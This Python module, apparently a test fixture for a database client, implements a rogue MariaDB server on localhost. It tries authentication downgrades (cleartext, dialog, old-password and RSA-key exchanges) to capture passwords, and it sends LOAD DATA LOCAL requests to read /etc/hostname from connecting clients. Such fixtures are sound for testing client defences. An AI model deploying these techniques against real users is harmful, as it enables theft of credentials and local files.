"""A server that says it is MariaDB, to get a password or a file out of whoever comes."""

from __future__ import annotations

import socket
import ssl
import struct
import threading
from contextlib import closing, contextmanager, suppress
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding, rsa

if TYPE_CHECKING:
    from collections.abc import Iterator

#: As the protocol has them: long password, protocol 4.1, TLS, native password, plugins, connect
#: with a database.
_CAPABILITIES = 0x1 | 0x200 | 0x8000 | 0x80000 | 0x8
_TLS = 0x800
_OK = b"\0\0\0\2\0\0\0"
SALT = b"12345678" + b"123456789012"
KEY = rsa.generate_private_key(65537, 2048)
KEY_PEM = KEY.public_key().public_bytes(
    serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
)
_FULL = b"\1\4"
"""What caching_sha2_password says when it wants the password itself."""


@dataclass
class Rogue:
    """What it asks of those who come, and all that it got.

    Args:
        greets_with: The authentication method that its first line names.
        switches_to: The one that it asks for then, with what belongs to it; empty to stay.
        then: What it says, one line each, after each answer.
        certificate: With these it offers TLS: certificate and key.
    """

    greets_with: bytes = b"mysql_native_password"
    switches_to: bytes = b""
    then: tuple[bytes, ...] = ()
    certificate: tuple[str, str] | None = None
    port: int = 0
    got: list[bytes] = field(default_factory=list)

    @contextmanager
    def listening(self) -> Iterator[Rogue]:
        """Serve one after the other until the end of the context."""
        with closing(socket.create_server(("127.0.0.1", 0))) as server:
            self.port = server.getsockname()[1]
            thread = threading.Thread(target=self._serve, args=(server,))
            thread.start()
            try:
                yield self
            finally:
                server.shutdown(socket.SHUT_RDWR)
                thread.join()

    def has(self, password: str) -> bool:
        """Whether it knows the password now."""
        return any(password.encode() in text for got in self.got for text in (got, _opened(got)))

    def _serve(self, server: socket.socket) -> None:
        with suppress(OSError):
            while True:
                client, _ = server.accept()
                client.settimeout(10)
                with suppress(OSError), closing(client):
                    self._talk(client)

    def _talk(self, client: socket.socket) -> None:
        capabilities = _CAPABILITIES | (_TLS if self.certificate else 0)
        client.sendall(
            _packet(
                0,
                b"\x0a5.5.5-10.11.0-MariaDB\0\7\0\0\0" + SALT[:8] + b"\0"
                + struct.pack("<HBHHB", capabilities & 0xFFFF, 33, 2, capabilities >> 16, 21)
                + b"\0" * 10 + SALT[8:] + b"\0" + self.greets_with + b"\0",
            )
        )  # fmt: skip
        if not self.certificate:
            self._ask(client)
            return
        self._take(client)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(*self.certificate)
        with context.wrap_socket(client, server_side=True) as encrypted:
            self._ask(encrypted)

    def _ask(self, client: socket.socket) -> None:
        number = self._take(client)
        for line in (*([self.switches_to] if self.switches_to else []), *self.then):
            client.sendall(_packet(number, line))
            number = self._take(client)
        client.sendall(_packet(number, _OK))
        while True:
            number = self._take(client)
            client.sendall(_packet(number, b"\xfb/etc/hostname"))  # LOAD DATA LOCAL

    def _take(self, client: socket.socket) -> int:
        """The next packet; returns the number of the one that answers it."""
        head = _all(client, 4)
        self.got.append(_all(client, int.from_bytes(head[:3], "little")))
        return head[3] + 1


_CHALLENGE = b"\0" + SALT + b"\0"
_NAMED_KEY = b"\1" + KEY_PEM
ASKS: dict[str, dict[str, Any]] = {
    "clear": {"switches_to": b"\xfemysql_clear_password\0"},
    "dialog": {"switches_to": b"\xfedialog\0\2Password: "},
    "old": {"switches_to": b"\xfemysql_old_password" + _CHALLENGE},
    "sha256 at once": {"greets_with": b"sha256_password", "then": (_NAMED_KEY,)},
    "sha256": {"switches_to": b"\xfesha256_password" + _CHALLENGE, "then": (_NAMED_KEY,)},
    "sha2 at once": {"greets_with": b"caching_sha2_password", "then": (_FULL, _NAMED_KEY)},
    "sha2": {"switches_to": b"\xfecaching_sha2_password" + _CHALLENGE, "then": (_FULL, _NAMED_KEY)},
}
"""The ways to ask for the password itself."""


def _all(client: socket.socket, size: int) -> bytes:
    found = b""
    while len(found) < size:
        if not (more := client.recv(size - len(found))):
            raise ConnectionError
        found += more
    return found


def _packet(number: int, body: bytes) -> bytes:
    return len(body).to_bytes(3, "little") + bytes([number]) + body


def _opened(got: bytes) -> bytes:
    """What was encrypted with the key that the rogue has named."""
    try:
        masked = KEY.decrypt(got, padding.OAEP(padding.MGF1(hashes.SHA1()), hashes.SHA1(), None))  # noqa: S303 - as the protocol has it
    except ValueError:
        return b""
    return bytes(one ^ SALT[at % len(SALT)] for at, one in enumerate(masked))
